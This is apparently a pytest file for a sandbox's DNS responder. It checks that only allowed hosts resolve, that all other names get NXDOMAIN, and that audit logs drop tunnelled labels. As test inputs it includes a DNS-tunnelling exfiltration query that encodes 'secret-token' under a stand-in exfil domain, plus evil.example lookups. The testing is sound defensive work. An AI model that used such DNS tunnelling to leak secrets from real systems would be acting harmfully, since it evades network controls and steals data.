"""The DNS responder (docs/transparent.md, "DNS"), queried with dig inside the sandbox's network
namespace over UDP and TCP: synthetic answers for services and [allow] hosts only, NXDOMAIN for every
type of every other name (no recursion: DNS tunnelling gets nowhere), NODATA for other types of served
names, and refused names audited without the labels that would carry tunnelled data."""
import json
import re

from tlib import run_sandbox

LONG = "a" * 63


def dig_all(gw, queries, listeners=("dns", "dns-tcp")):
    """Runs each dig query in one sandbox; returns {query: dig output}."""
    script = "; ".join(f"echo '=== {q}'; dig -p 53 @127.0.0.1 +tries=1 +time=3 {q}" for q in queries)
    r = run_sandbox(gw, {"listeners": list(listeners), "nft": True, "command": script})
    assert r["reply"] == {"ok": True}, r
    out = {}
    for block in r["stdout"].split("=== ")[1:]:
        q, _, text = block.partition("\n")
        out[q] = text
    assert set(out) == set(queries), r
    return out


def status(text):
    m = re.search(r"status: (\w+)", text)
    return m.group(1) if m else None


def answers(text):
    m = re.search(r"ANSWER: (\d+)", text)
    return int(m.group(1)) if m else None


def flags(text):
    m = re.search(r"flags: ([a-z ]+);", text)
    return set(m.group(1).split()) if m else set()


def test_served_names_get_synthetic_answers(tgw):
    out = dig_all(tgw, ["api.example.com A", "API.Example.Com. A", "api.example.com AAAA",
                        "localhost A", "+tcp api.example.com A", "api.example.com TXT",
                        "api.example.com HTTPS", "api.example.com MX"])
    a = re.search(r"api\.example\.com\.\s+\d+\s+IN\s+A\s+(198\.1[89]\.\d+\.\d+)", out["api.example.com A"])
    assert a, out["api.example.com A"]
    assert status(out["api.example.com A"]) == "NOERROR"
    # Authoritative, recursion desired echoed, never "ra": it recurses for nobody.
    assert {"qr", "aa", "rd"} <= flags(out["api.example.com A"])
    assert "ra" not in flags(out["api.example.com A"])
    # The same address for the same name, whatever the case, over UDP and TCP.
    assert a.group(1) in out["API.Example.Com. A"]
    assert a.group(1) in out["+tcp api.example.com A"]
    assert re.search(r"IN\s+AAAA\s+fdc1:a4b:700d::", out["api.example.com AAAA"])
    assert re.search(r"IN\s+A\s+198\.1[89]\.", out["localhost A"])
    for q in ("api.example.com TXT", "api.example.com HTTPS", "api.example.com MX"):
        assert status(out[q]) == "NOERROR" and answers(out[q]) == 0, out[q]  # NODATA


def test_everything_else_is_nxdomain_and_nothing_is_forwarded(tgw):
    tunnel = "acm_c2VjcmV0LXRva2Vu.x7f3q.exfil.example"
    queries = [f"{tunnel} TXT", f"{tunnel} A", f"{tunnel} AAAA", "evil.example HTTPS",
               f"{LONG}.{LONG}.{LONG}.evil.example A", "example.com A", "x.api.example.com A",
               "+tcp evil.example A", "+norecurse www.google.com A", "-x 8.8.8.8"]
    out = dig_all(tgw, queries)
    for q in queries:
        assert status(out[q]) == "NXDOMAIN", (q, out[q])
        assert answers(out[q]) == 0, (q, out[q])
        assert "ra" not in flags(out[q])
    refused = [a for a in tgw.wait_audit(len(queries)) if a.get("kind") == "dns"]
    assert len(refused) >= len(queries), refused
    assert all(a["decision"] == "deny" for a in refused)
    text = json.dumps(refused).lower()
    # The tunnelled labels never reach the audit log; the domain they were sent to does.
    assert "c2vjcmv0lxrva2vu" not in text and "x7f3q" not in text and "acm_" not in text and LONG not in text
    assert any(a["host"].endswith(").exfil.example") and a["method"] == "TXT" for a in refused), refused


def test_oversized_names_are_refused(tgw):
    # 4 labels of 63 bytes: over the 255-byte limit on the wire; dig refuses to send it, so the
    # query is built by hand and sent over UDP.
    script = (
        "/usr/bin/python3 -c \""
        "import socket, struct\n"
        "q = struct.pack('>HHHHHH', 7, 0x0100, 1, 0, 0, 0)\n"
        "q += b''.join(bytes([63]) + b'b' * 63 for _ in range(4)) + b'\\\\0' + struct.pack('>HH', 1, 1)\n"
        "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(3)\n"
        "s.sendto(q, ('127.0.0.1', 53)); r = s.recv(512)\n"
        "print(struct.unpack('>H', r[:2])[0], r[3] & 15, struct.unpack('>H', r[6:8])[0])\"")
    r = run_sandbox(tgw, {"listeners": ["dns"], "nft": True, "command": script})
    assert r["stdout"].split() == ["7", "1", "0"], r  # same id, FORMERR, no answer
